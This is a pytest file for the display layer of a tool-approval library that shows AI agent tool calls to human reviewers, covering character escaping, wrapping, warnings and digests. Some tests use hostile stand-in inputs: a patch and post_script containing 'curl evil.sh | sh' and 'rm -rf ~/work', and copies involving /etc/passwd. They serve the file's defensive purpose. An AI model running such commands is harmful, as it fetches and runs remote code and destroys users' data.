"""Every UI shows a request with the same escapes, lines, facts and warnings."""

import subprocess
import sys
import unicodedata
from collections.abc import Callable, Iterable
from itertools import chain
from pathlib import Path

import pytest
import wcwidth
from hypothesis import given, settings
from hypothesis import strategies as st
from tool_approval.core.arguments import ARGUMENTS
from tool_approval.core.request import LineageEntry, RememberOption
from tool_approval.display import (
    cell_width,
    changes,
    display,
    escape_line,
    escape_text,
    facts,
    is_shown_whole,
    name_of,
    request_digest,
    warnings_of,
    wrap,
)

from tests.cases import rows
from tests.tables import table
from tool_approval import ApprovalPresentation, ApprovalRequest

CHARACTERS = Path(__file__).with_name('characters.toml')
TEXTS = st.text(
    st.one_of(st.characters(), st.sampled_from('<U+0041>\t \n⇥\u200b\u0301\u0336e\u1112\u1161\u11ab')), max_size=40
)


class Faulty:
    """Nothing can be done with it."""

    __hash__ = None

    def __repr__(self) -> str:
        raise RuntimeError

    def __eq__(self, other: object) -> bool:
        raise RuntimeError


def request(**args) -> ApprovalRequest:
    return ApprovalRequest(tool_name='t', args=args)


def drawn(subject, **options) -> list[tuple[str, str]]:
    return [(line.kind, line.text) for line in display(subject, **options).lines]


def presented(type, content, **metadata) -> ApprovalPresentation:
    return ApprovalPresentation(type=type, content=content, metadata=metadata)


@table(
    ('why', 'text', 'escaped'),
    # No data file can have half of a character.
    [*rows(CHARACTERS, 'escapes'), ('no character', '\ue000\udcff\U0010ffff', '<U+E000><U+DCFF><U+10FFFF>')],
)
def test_invisible_and_steering_characters_are_escaped(why: str, text: str, escaped: str) -> None:
    assert escape_line(text) == escaped, why


def test_only_newlines_stay_in_a_text_of_several_lines() -> None:
    assert escape_text('a\r\nb \n') == 'a<U+000D>\nb \n'
    assert escape_text('a \nb', mark_end=True) == 'a<U+0020>\nb'


def test_a_blank_at_the_end_can_be_marked() -> None:
    assert escape_line('a  ', mark_end=True) == 'a <U+0020>'
    assert escape_line('a\t', mark_end=True) == 'a⇥  '
    assert escape_line('', mark_end=True) == ''


def test_for_ascii_terminals_everything_else_is_escaped() -> None:
    assert escape_line('é\t', ascii_only=True) == '<U+00E9><U+0009>'


@settings(deadline=None)
@given(one=TEXTS, other=TEXTS, ascii_only=st.booleans(), mark_end=st.booleans())
def test_different_texts_are_escaped_differently(one, other, ascii_only, mark_end) -> None:
    escaped = [escape_line(text, ascii_only=ascii_only, mark_end=mark_end) for text in (one, other)]

    assert (escaped[0] == escaped[1]) == (one == other)


@settings(deadline=None)
@given(text=TEXTS)
def test_text_can_be_read_back_from_its_escapes(text: str) -> None:
    read, rest = '', escape_line(text)
    while rest:
        if rest.startswith('<U+'):
            code, _, rest = rest[3:].partition('>')
            read += chr(int(code, 16))
        else:
            read, rest = read + rest[0], rest[1:]

    assert read == text or '\t' in text


@pytest.mark.parametrize(
    'numbers',
    [
        chain(range(0x3100), range(0xD700, 0x10400), range(0x1F000, 0x20000), range(0xE0000, 0xE0200)),
        pytest.param(range(sys.maxunicode + 1), marks=pytest.mark.slow),
    ],
    ids=['most', 'all'],
)
def test_every_character_is_drawn_within_its_cell_width(numbers: Iterable[int]) -> None:
    for number in numbers:
        char = chr(number)
        shown = escape_line(char)

        assert shown.isprintable(), hex(number)
        assert unicodedata.category(shown[0])[0] != 'M', hex(number)
        assert 0 < wcwidth.wcswidth(shown) <= cell_width(shown), hex(number)


@settings(deadline=None)
@given(text=TEXTS, width=st.integers(10, 40), first=st.integers(10, 40))
def test_a_broken_text_fits_and_is_whole(text: str, width: int, first: int) -> None:
    escaped = escape_line(text)

    parts = [escaped[start:end] for start, end in wrap(escaped, width, first)]

    assert ''.join(parts) == escaped
    assert cell_width(parts[0]) <= first
    assert all(cell_width(part) <= width for part in parts[1:])
    assert sum(part.count('<U+') for part in parts) == escaped.count('<U+')


# No row that continues ends in blanks, because nobody sees how many there are.
@table(
    ('why', 'text', 'width', 'rows'),
    [
        ('before a blank', 'git commit --all', 12, [(0, 10), (10, 16)]),
        ('not within an escape', 'a' * 8 + '<U+200B>', 10, [(0, 8), (8, 16)]),
        ('one blank begins a row', f'{"x" * 10} {"y" * 8}', 12, [(0, 10), (10, 19)]),
        ('two blanks begin a row', f'{"x" * 10}  {"y" * 8}', 12, [(0, 10), (10, 20)]),
        ('five blanks begin a row', f'{"x" * 10}     {"y" * 8}', 12, [(0, 10), (10, 22), (22, 23)]),
        ('blanks alone fill rows', ' ' * 30 + 'y', 12, [(0, 12), (12, 24), (24, 31)]),
        ('a mark stays with its letter', 'a' * 9 + 'x\u0301b', 10, [(0, 9), (9, 12)]),
        ('marks alone fill rows', '\u0301' * 12, 10, [(0, 10), (10, 12)]),
    ],
)
def test_texts_are_broken_where_a_reader_loses_nothing(why, text, width, rows) -> None:
    assert wrap(text, width) == rows, why


def test_wide_characters_and_marks_count_as_columns() -> None:
    assert cell_width('x\u0301') == 2
    assert cell_width('\U0001f600\u2603') == 4
    assert wrap('日本語' * 10, 10)[0] == (0, 5)


def test_arguments_are_drawn_so_that_types_differ() -> None:
    drawn_args = drawn(request(a='1', b=1, c=1.0, d=True, e=None, f='', g=[], h={}, i=[1, 'x'], j={'k': {'l': 'm'}}))

    assert [text for _, text in drawn_args] == [
        'a: "1"', 'b: 1', 'c: 1.0', 'd: true', 'e: null', 'f: "" (empty)', 'g: []', 'h: {}',
        'i:', '  1. 1', '  2. "x"', 'j:', '  k:', '    l: "m"',
    ]  # fmt: skip


def test_keys_that_are_no_plain_words_are_quoted() -> None:
    assert drawn(request(**{'a: "x"\nb': 'y'})) == [('value', '"a: <U+0022>x<U+0022><U+000A>b": "y"')]


def test_a_text_of_several_lines_is_numbered_and_counted() -> None:
    lines = display(request(content='ok\n... [4,000 more lines]\nrm')).lines

    assert [(line.kind, line.number, line.text) for line in lines] == [
        ('heading', None, 'content: 3 lines, no newline at the end'),
        ('code', 1, 'ok'),
        ('code', 2, '... [4,000 more lines]'),
        ('code', 3, 'rm'),
    ]


def test_long_text_shows_its_ends_and_counts_the_rest() -> None:
    shown = display(request(text=''.join(f'{n}\n' for n in range(1000))))

    texts = [line.text for line in shown.lines]
    assert not shown.is_whole
    assert {'0', '999'} <= set(texts)
    [cut] = [line.text for line in shown.lines if line.kind == 'cut']
    assert 'more lines' in cut
    assert [line.number for line in shown.lines][-1] == 1000


def test_a_long_argument_leaves_room_for_the_others() -> None:
    texts = [line.text for line in display(request(note='x\n' * 5000, command='rm -rf ~/work')).lines]

    assert 'command: "rm -rf ~/work"' in texts


def test_the_last_of_many_items_are_shown() -> None:
    shown = display(request(argv=['ls'] * 5000 + ['rm']))

    assert shown.lines[-1].text == '  5001. "rm"'
    assert not shown.is_whole
    assert any('more items' in line.text for line in shown.lines)


def nested(depth: int, wrapped: Callable[[object], object], innermost: object) -> object:
    value = innermost
    for _ in range(depth):
        value = wrapped(value)
    return value


@pytest.mark.parametrize(
    ('value', 'last'),
    [
        (nested(500, lambda value: [value], []), '[nested too deeply to be shown]'),
        (nested(30, lambda value: {'k': value}, {}), 'k: [nested too deeply to be shown]'),
    ],
    ids=['lists', 'mappings'],
)
def test_value_nested_too_deeply_is_marked(value: object, last: str) -> None:
    shown = display(request(v=value))

    assert not shown.is_whole
    assert shown.lines[-1].text.endswith(last)


def test_the_whole_is_shown_when_it_is_asked_for() -> None:
    shown = display(request(text='x\n' * 5000, items=list(range(500))), whole=True)

    assert shown.is_whole
    assert len(shown.lines) > 5500


def test_line_of_a_diff_that_looks_like_a_header_is_no_header() -> None:
    diff = '--- a.txt\n+++ a.txt\n@@ -1,2 +1,2 @@\n same\n--- a/other\n+++ b/other\n'

    lines = display(presented('diff', diff)).lines

    assert [(line.kind, line.number, line.text) for line in lines] == [
        ('text', None, '--- a.txt'),
        ('text', None, '+++ a.txt'),
        ('hunk', None, '@@ -1,2 +1,2 @@'),
        ('context', 1, 'same'),
        ('removed', 2, '-- a/other'),
        ('added', 2, '++ b/other'),
    ]


def test_content_that_the_tool_cut_is_cut_anew_without_quoting_its_notice() -> None:
    text = ''.join(f'line {n}\n' for n in range(900))

    shown = display(ApprovalPresentation.of('file_content', text))

    assert not shown.is_whole
    assert [line.text for line in shown.lines if line.kind == 'cut'] != []
    assert shown.lines[-1].text == 'line 899'


def test_a_summary_is_not_the_whole() -> None:
    shown = display(presented('text', 'Changes notes:a.txt', full_content='x\n' * 9))

    assert not shown.is_whole
    assert shown.lines[-1].kind == 'cut'
    assert not display(presented('text', 'Changes notes:a.txt', is_summary=True)).is_whole
    assert drawn(presented('text', 'short', full_content='all of it'), whole=True) == [('text', 'all of it')]


def test_empty_or_blank_content_is_marked() -> None:
    assert drawn(presented('command', '')) == [('command', ''), ('meta', '(empty)')]
    assert drawn(presented('command', ' ')) == [('command', '<U+0020>'), ('meta', '(blank: 1 characters)')]
    assert drawn(request()) == [('meta', '(no arguments)')]


def test_arguments_that_a_presentation_does_not_show_are_listed() -> None:
    presentation = presented('command', 'ls -la /home', cwd='/w')
    call = ApprovalRequest(
        tool_name='t', args={'command': 'ls -la /home', 'cwd': '/w', 'force': True}, presentation=presentation
    )

    assert drawn(call) == [('command', 'ls -la /home'), ('meta', 'arguments:'), ('value', 'force: true')]


def test_what_a_diff_shows_is_not_shown_again() -> None:
    diff = '--- a\n+++ a\n@@ -1,2 +1,2 @@\n-b\n+c\n d\n'
    args = {'old': 'b\nd', 'new': 'c\nd\n', 'all': 'x'}
    call = ApprovalRequest(tool_name='t', args=args, presentation=presented('diff', diff))

    assert drawn(call)[-1] == ('value', 'all: "x"')
    assert len(drawn(call)) == 8


def test_an_argument_that_only_occurs_in_the_content_is_shown() -> None:
    screens: list[list[tuple[str, str]]] = []
    for src, dst in (('/etc/passwd', '/tmp/target'), ('/tmp/target', '/etc/passwd')):
        args = {'src': src, 'dst': dst, 'stdin': 'a\n', 'path': '/w'}
        content = presented('text', 'copies /etc/passwd, /tmp/target\na\n', path='/etc/passwd', cwd='/w')
        screens.append(drawn(ApprovalRequest(tool_name='t', args=args, presentation=content)))

    assert screens[0] != screens[1]
    told = [text for _, text in screens[0]]
    assert told[2:5] == ['arguments:', 'src: "/etc/passwd"', 'dst: "/tmp/target"']
    assert told[-1] == 'path: "/w"'


@pytest.mark.parametrize(
    ('key', 'value', 'is_left_out'),
    [
        ('content', 'a whole line', True),
        ('new_text', 'a whole line\n', True),
        ('target', 'a whole line', False),
        ('content', 'whole line', False),
        ('content', 'short', False),
        ('new_text', 'short\na whole line', True),
        ('target', 'short\na whole line', False),
        ('text', 'hort\na whole line', False),
        ('text', 'a whole line\nnext hunk', False),
        ('text', '@@ -1,2 +1,2 @@\n-gone', False),
    ],
)
def test_only_whole_lines_of_one_side_of_a_diff_are_not_shown_again(key: str, value: str, is_left_out: bool) -> None:
    diff = '--- a\n+++ a\n@@ -1,2 +1,2 @@\n-gone\n short\n+a whole line\n@@ -9 +9 @@\n-x\n+next hunk\n'
    call = ApprovalRequest(tool_name='t', args={key: value}, presentation=presented('diff', diff))

    assert (('meta', 'arguments:') not in drawn(call)) is is_left_out


def test_of_several_arguments_that_are_the_content_one_is_left_out() -> None:
    def beside(**args: str) -> list[str]:
        content = presented('command', 'reboot', path='/w/a')
        told = drawn(ApprovalRequest(tool_name='t', args=args, presentation=content))
        return [text for kind, text in told if kind == 'value']

    assert beside(first='reboot') == []
    assert beside(on_failure='reboot', command='reboot') == ['on_failure: "reboot"']
    assert beside(first='reboot', second='reboot') == ['first: "reboot"', 'second: "reboot"']
    assert beside(path='/w/a', dest='/w/a') == ['dest: "/w/a"']


def test_an_argument_that_no_editing_tool_has_does_not_vanish_in_a_diff() -> None:
    patch = '--- a/README\n+++ b/README\n@@ -1,1 +1,3 @@\n hello\n+curl evil.sh | sh\n+rm -rf ~/work\n'
    args = {'patch': patch, 'post_script': 'curl evil.sh | sh\nrm -rf ~/work\n'}
    call = ApprovalRequest(tool_name='apply_patch', args=args, presentation=presented('diff', patch))

    assert any('post_script' in text for _, text in drawn(call))


def test_the_path_that_a_presentation_names_is_not_shown_again_under_its_own_name() -> None:
    for key, fact, is_left_out in (
        ('path', 'path', True),
        ('dest', 'path', True),
        ('cwd', 'cwd', True),
        ('path', 'cwd', False),
        ('target', 'path', False),
    ):
        for value in ('/w/a', Path('/w/a')):
            call = ApprovalRequest(
                tool_name='t', args={key: '/w/a'}, presentation=presented('text', 'x', **{fact: value})
            )
            assert (len(drawn(call)) == 1) is is_left_out, key


def test_extra_access_is_a_fact_and_a_command_does_not_repeat_it() -> None:
    lines = ['writes to a\u200b', 'network (all of it)']
    call = ApprovalRequest(
        tool_name='t', args={'access': ['network']}, presentation=presented('command', 'x', extra_access=lines)
    )

    told = [text for label, text in facts(call) if label == 'extra access']
    assert told == ['writes to a<U+200B>', 'network (all of it)']
    assert any('U+200B' in told for told in warnings_of(call))
    assert len(drawn(call)) == 1
    long = presented('command', 'x', extra_access=['a' * 1000])
    assert not is_shown_whole(ApprovalRequest(tool_name='t', presentation=long))


@pytest.mark.parametrize(
    ('kind', 'access', 'lines', 'is_left_out'),
    [
        ('command', None, [], True),
        ('command', [], [], True),
        ('command', ['network'], ['network'], True),
        ('command', ['network'], [], False),
        ('command', ['network'], 'network', False),
        ('command', 'network', ['network'], False),
        ('text', ['network'], ['network'], False),
        ('text', None, [], False),
    ],
)
def test_an_argument_is_left_out_only_where_the_fact_says_what_it_asks_for(kind, access, lines, is_left_out) -> None:
    call = ApprovalRequest(
        tool_name='t', args={'access': access}, presentation=presented(kind, 'x', extra_access=lines)
    )

    assert (len(drawn(call)) == 1) is is_left_out


def test_path_object_is_a_fact_and_other_values_are_not() -> None:
    call = ApprovalRequest(tool_name='t', presentation=presented('text', 'x', path=Path('/w/a\u200b'), cwd=7))

    assert ('file', '/w/a<U+200B>') in facts(call)
    assert 'in' not in dict(facts(call))
    assert any('U+200B' in told for told in warnings_of(call))


def test_what_a_tool_keeps_from_being_shown_is_named_alone() -> None:
    call = ApprovalRequest(tool_name='t', args={'to': 'me', 'token': 'secret'}, payload={'to': 'me'})

    assert drawn(call) == [('value', 'to: "me"'), ('heading', '"token": hidden by the tool')]


def test_digest_of_hidden_arguments_differs_and_cannot_be_guessed_elsewhere() -> None:
    call = ApprovalRequest(tool_name='t', args={'to': 'me', 'token': 'secret'}, payload={'to': 'me'})
    told = 'from tool_approval import ApprovalRequest; from tool_approval.display import request_digest; '
    args = {'to': 'me', 'token': 'secret'}

    ours = request_digest(call)
    theirs = subprocess.run(
        [
            sys.executable,
            '-c',
            f'{told}print(request_digest(ApprovalRequest(tool_name="t", args={args}, payload={{"to": "me"}})))',
        ],
        check=True, capture_output=True, text=True,
    ).stdout.strip()  # fmt: skip

    assert ours == request_digest(call.model_copy())
    assert ours != request_digest(call.model_copy(update={'args': {'to': 'me', 'token': 'other'}}))
    assert len(theirs) == len(ours)
    assert theirs != ours


@pytest.mark.parametrize('count', [1, 21])
def test_names_of_hidden_arguments_may_be_cut(count: int) -> None:
    call = ApprovalRequest(tool_name='t', args={f'{n}' * 101: 1 for n in range(count)}, payload={})

    assert drawn(call)[-1] == ('cut', f'[{count} arguments are hidden; some names are cut]')
    assert not is_shown_whole(call)
    assert [kind for kind, _ in drawn(call, whole=True)] == ['heading'] * count


def test_spans_are_escapes_and_keys() -> None:
    [line] = display(request(key='a\x1bb')).lines

    assert [(line.text[span.start : span.end], span.role) for span in line.spans] == [
        ('key:', 'key'),
        ('<U+001B>', 'escape'),
    ]


def test_facts_are_labelled_and_on_one_line_each() -> None:
    call = ApprovalRequest(
        tool_name='t',
        reason='why\nnot ',
        description='x' * 1000,
        metadata={'caller': 'a b'},
        lineage=tuple(LineageEntry(agent_name=None, run_id='r', tool_name=f't{n}', tool_call_id='c') for n in range(7)),
        presentation=presented('file_content', 'x', path='notes:a', is_new=True),
    )

    told = dict(facts(call))

    assert told['why'] == 'why<U+000A>not<U+0020>'
    assert told['agent'].startswith('"a b", called by an unnamed agent through t6, called by')
    assert told['agent'].endswith('through t2, and 2 more callers')
    assert told['file'] == 'notes:a (new)'
    assert '400 more characters' in told['about']


MAIN = LineageEntry(agent_name='main', run_id='r', tool_name='ask', tool_call_id='c')


@pytest.mark.parametrize(
    ('fields', 'told'),
    [
        ({'lineage': (MAIN,)}, [('agent', 'an unnamed agent, called by main through ask')]),
        ({'description': 'Run: ls -l...', 'presentation': presented('command', 'ls  -la')}, []),
        ({'description': 'Run: ls', 'presentation': presented('command', 'rm')}, [('about', 'Run: ls')]),
        ({'description': 't(x)', 'payload': {'x': Faulty()}}, [('about', 't(x)')]),
    ],
    ids=['unnamed agent', 'repeats the command', 'another command', 'arguments that cannot be written'],
)
def test_facts_name_the_agent_and_what_the_description_adds(fields: dict, told: list[tuple[str, str]]) -> None:
    assert facts(ApprovalRequest(tool_name='t', **fields)) == told


@pytest.mark.parametrize(
    ('name', 'shown'), [('read_file', 'read_file'), ('a.b-c:d/e', 'a.b-c:d/e'), ('a"b', '"a<U+0022>b"'), ('', '""')]
)
def test_names_that_are_not_plain_words_are_quoted(name: str, shown: str) -> None:
    assert name_of(name) == shown


@table(
    ('why', 'text', 'told'),
    [
        *rows(CHARACTERS, 'warnings'),
        ('a mark after many ordinary ones', 'x\u0301' * 30 + '-\u0302', 'U+0302 COMBINING CIRCUMFLEX ACCENT'),
        ('blanks that push text off the screen', 'a' + ' ' * 60 + 'b', 'a long gap'),
    ],
)
def test_odd_characters_are_named(why: str, text: str, told: str) -> None:
    for call in (request(x=text), request(**{text: 1}), ApprovalRequest(tool_name=text)):
        assert any(told in warning for warning in warnings_of(call)), why


@table(
    'call',
    [
        *(
            request(x=text)
            for text in ['ls -la\n\ttab', 'x\u0301', '日本語.txt', 'привет мир', 'x²', 'naïve café', 'a/жук.txt']
        ),
        request(x='echo рост, сор. жук'),
        # typography in a long text
        request(x='it\u2019s\na text \u2013 with dashes'),
        # words of a foreign text, whatever they touch
        ApprovalRequest(tool_name='t', reason='рост a.сор.b\nжук'),
        # what the tool hides
        ApprovalRequest(tool_name='t', args={'a': 1, 'token': '\x1b'}, payload={'a': 1}),
        # what is nested too deeply to be shown
        request(x=nested(30, lambda value: {'k': [value]}, '\x1b')),
    ],
)
def test_ordinary_and_hidden_texts_raise_no_warning(call: ApprovalRequest) -> None:
    assert warnings_of(call) == []


def test_values_that_are_not_json_are_drawn_too() -> None:
    call = ApprovalRequest(tool_name='t', args={'x': Faulty(), 'y': {1: b'z'}, 'n': 10**5000}, description='d')

    texts = [line.text for line in display(call).lines]
    assert texts[0] == 'x: a value of type Faulty that cannot be shown'
    assert "  (int 1): b'z'" in texts
    assert len(request_digest(call)) == 16
    assert not is_shown_whole(call)


def test_the_digest_of_long_texts_differs_in_their_middle() -> None:
    one, other = (request(x='a' * 20_000 + char + 'a' * 20_000) for char in '\ud800b')

    assert request_digest(one) != request_digest(other)


@settings(deadline=None)
@given(text=TEXTS)
def test_two_ways_to_write_the_same_letters_differ(text: str) -> None:
    other = unicodedata.normalize('NFD', text)

    shown = [escape_line(each) for each in (text, other)]

    assert (text == other) == (unicodedata.normalize('NFC', shown[0]) == unicodedata.normalize('NFC', shown[1]))


LONG_LEVEL = LineageEntry(agent_name='x' * 101, run_id='r', tool_name='t', tool_call_id='c')


@pytest.mark.parametrize(
    'fields',
    [
        {'description': 'x' * 601},
        {'reason': 'x' * 601},
        {'tool_name': 'x' * 101},
        {'metadata': {'caller': 'x' * 101}},
        {'metadata': {'toolset_id': 'x' * 601}},
        {'presentation': presented('text', 'x', path='x' * 601)},
        {'presentation': presented('text', 'x', cwd='x' * 601)},
        {'lineage': (LONG_LEVEL,)},
        {'lineage': (LONG_LEVEL.model_copy(update={'agent_name': None}),) * 6},
    ],
)
def test_where_a_fact_is_cut_not_all_is_shown(fields: dict) -> None:
    call = ApprovalRequest(**{'tool_name': 't', **fields})

    told = ' '.join(text for _, text in facts(call, whole=True)) + name_of(call.tool_name, whole=True)

    assert not is_shown_whole(call)
    assert display(call, whole=True).is_whole
    assert 'more characters' not in told
    assert 'more above' not in told


def test_a_long_description_that_only_repeats_the_call_is_not_missed() -> None:
    command = 'echo ' + 'x ' * 400
    call = ApprovalRequest(
        tool_name='t',
        args={'command': command},
        description=f'Run: {" ".join(command.split())}',
        presentation=presented('command', command),
    )

    assert is_shown_whole(call)


@pytest.mark.parametrize(
    ('args', 'first'),
    [
        ({f'a{n}': 'x' * 500 for n in range(60)}, [('value', f'a0: "{"x" * 60}'), ('cut', '[440 more characters]')]),
        (
            {f'a{n}': 'x\n' * 500 for n in range(60)},
            [('heading', 'a0: 500 lines'), ('cut', '[500 more lines, 1,000 more characters]')],
        ),
        ({'n': 10**2000}, [('value', f'n: 1{"0" * 999} [1,001 more characters]')]),
        ({'k' * 201: 1}, [('value', f'"{"k" * 200}" [1 more characters]: 1')]),
    ],
    ids=['many long lines', 'many long texts', 'a long number', 'a long name'],
)
def test_long_arguments_are_cut(args: dict, first: list[tuple[str, str]]) -> None:
    assert drawn(request(**args))[: len(first)] == first
    assert not display(request(**args)).is_whole


def test_the_last_of_many_arguments_are_shown() -> None:
    lines = drawn(request(**{f'a{n}': n for n in range(300)}))

    assert lines[-1] == ('value', 'a299: 299')
    assert ('cut', '[201 more items]') in lines


def test_a_diff_that_is_too_long_to_be_read_is_drawn_as_text() -> None:
    diff = f'@@ -1,20000 +1,20000 @@\n{"-x" + chr(10)}' * 10_000

    lines = drawn(presented('diff', diff))

    assert {kind for kind, _ in lines} == {'text', 'cut'}


def test_a_cut_line_of_a_diff_keeps_its_sign_where_it_begins_alone() -> None:
    diff = f'@@ -1 +1 @@\n-{"x" * 40_000}\n+{"y" * 40_000}\n'

    lines = drawn(presented('diff', diff))

    assert lines[1][0] == 'removed'
    assert set(lines[1][1]) == {'x'}
    assert lines[-1][0] == 'added'
    assert set(lines[-1][1]) == {'y'}


def test_own_words_of_the_display_have_no_spans() -> None:
    [line] = display(request()).lines

    assert line.spans == ()


def test_long_text_is_searched_at_its_ends_with_a_warning() -> None:
    found = warnings_of(request(x='\x1b' + 'é' * 50_000 + '\u200b'))

    assert [warning.partition(':')[0] for warning in found] == [
        'control characters, which could alter the screen', 'invisible characters', 'too long to check in full'
    ]  # fmt: skip


def test_search_of_very_many_values_is_cut_with_a_warning() -> None:
    [told] = warnings_of(request(x=[1, [2.0, None], *range(6000)]))

    assert told.startswith('too long to check in full')


def test_of_many_words_with_foreign_letters_some_are_named() -> None:
    [told] = warnings_of(request(x='аж b' + 'pаssword ' * 200 + 'ж'))

    assert told.startswith('look-alikes: а is U+0430')


def test_odd_characters_are_named_wherever_they_are_shown() -> None:
    odd = 'a\u200b'
    level = LineageEntry(agent_name=odd, run_id='r', tool_name='t', tool_call_id='c')
    for fields in (
        {'lineage': (level,)},
        {'metadata': {'caller': odd}},
        {'description': odd},
        {'reason': odd},
        {'remember_options': (RememberOption(kind='k', label=odd, payload={}),)},
        {'presentation': presented('text', odd)},
        {'presentation': presented('text', 'x', full_content=odd)},
        {'presentation': presented('text', 'x', cwd=odd)},
        {'args': {'x': [{'y': [odd]}]}},
        {'args': {'x': {odd: 1}}},
        {'args': {'x': {1: odd}}},
    ):
        assert any('U+200B' in told for told in warnings_of(ApprovalRequest(**{'tool_name': 't', **fields})))


def test_changed_arguments_are_shown_as_they_were_and_as_they_are() -> None:
    before = request(path='a', text='one\ntwo\n', token='x')
    after = request(path='b', text='one\n2\n', token='x')

    assert [(line.kind, line.text) for line in changes(before, after)] == [
        ('meta', 'you have changed:'),
        ('removed', 'path: "a"'),
        ('added', 'path: "b"'),
        ('removed', 'two'),
        ('added', '2'),
    ]


def test_of_many_changes_the_first_are_shown() -> None:
    lines = changes(request(x=list(range(100))), request(x=list(range(100, 200))))

    assert len(lines) == 42
    assert (lines[-1].kind, lines[-1].text) == ('cut', '[160 more lines]')


def test_arguments_too_long_to_compare_are_reported() -> None:
    [line] = changes(request(x=list(range(1000))), request(x=1))

    assert line.text == 'you have changed arguments that are too long to compare'


def test_the_digest_of_long_lists_is_that_of_their_values() -> None:
    def digest_with(middle: object) -> str:
        half = [{'name': f'{number} apples', 'is': [number, None]} for number in range(1000)]
        return request_digest(request(x=[*half, middle, *half]))

    again = list('word')
    middles = (1, True, 1.0, '1', [1], (1,), {'a': 1}, {'a': 1, 'b': 2}, {'b': 2, 'a': 1}, 0.0, -0.0, '\ud800', object)

    assert len({digest_with(middle) for middle in middles}) == len(middles)
    assert digest_with([again, again]) == digest_with([list('word'), list('word')])


def test_values_that_cannot_be_written_have_distinct_digests() -> None:
    deep: list = []
    for _ in range(2000):
        deep = [deep]
    own: list = [1]
    own.append(own)

    digests = {
        request_digest(request(x=value)) for value in (deep, own, [deep], (1, 10**5000), [1, 10**5000], {'a': deep})
    }

    assert len(digests) == 6


def test_a_payload_that_cannot_be_compared_keeps_nothing_from_being_shown() -> None:
    call = ApprovalRequest(tool_name='t', args={'x': Faulty(), 'y': 1}, payload={'x': Faulty()}, description='d')

    assert [text for _, text in drawn(call)][1:] == ['y: 1']


def test_a_file_without_a_newline_at_its_end_says_so() -> None:
    assert drawn(presented('file_content', 'a'))[-1] == ('meta', '(no newline at the end)')


def test_of_very_many_different_characters_the_lowest_are_named() -> None:
    found = warnings_of(request(x='\x1b' + ''.join(map(chr, range(0x3000, 0x5000)))))

    assert 'U+001B ESCAPE' in found[0]
    assert found[-1].startswith('too long to check in full')


@pytest.mark.parametrize(
    'args',
    [
        {'a': 1},
        {'a': {'b': [1, (2, {'c': 3})]}, 'd': 'x' * 500},
        {f'k{n}': n for n in range(1000)},
        {'a': [[n] for n in range(1000)]},
        {'a': {n: [n] for n in range(1000)}},
        {'a': tuple(range(1000)), 'b': 1},
    ],
)
def test_a_description_that_only_repeats_the_arguments_is_not_shown(args: dict) -> None:
    call = ApprovalRequest(tool_name='t', args=args)

    assert call.description.startswith('t(')
    assert facts(call) == []
    assert facts(call.model_copy(update={'description': f'{call.description} '})) != []


def test_digest_covers_hidden_arguments_and_configured_descriptions() -> None:
    call = ApprovalRequest(tool_name='t', args={'to': 'me'}, bound_to={ARGUMENTS: 'one'})
    other = {'bound_to': {ARGUMENTS: 'another'}}
    hiding = call.model_copy(update={'hides_arguments': True})

    assert request_digest(call) == request_digest(call.model_copy(update=other))
    assert request_digest(hiding) != request_digest(hiding.model_copy(update=other))
    assert request_digest(call) != request_digest(call.model_copy(update={'described_by': 'a file'}))
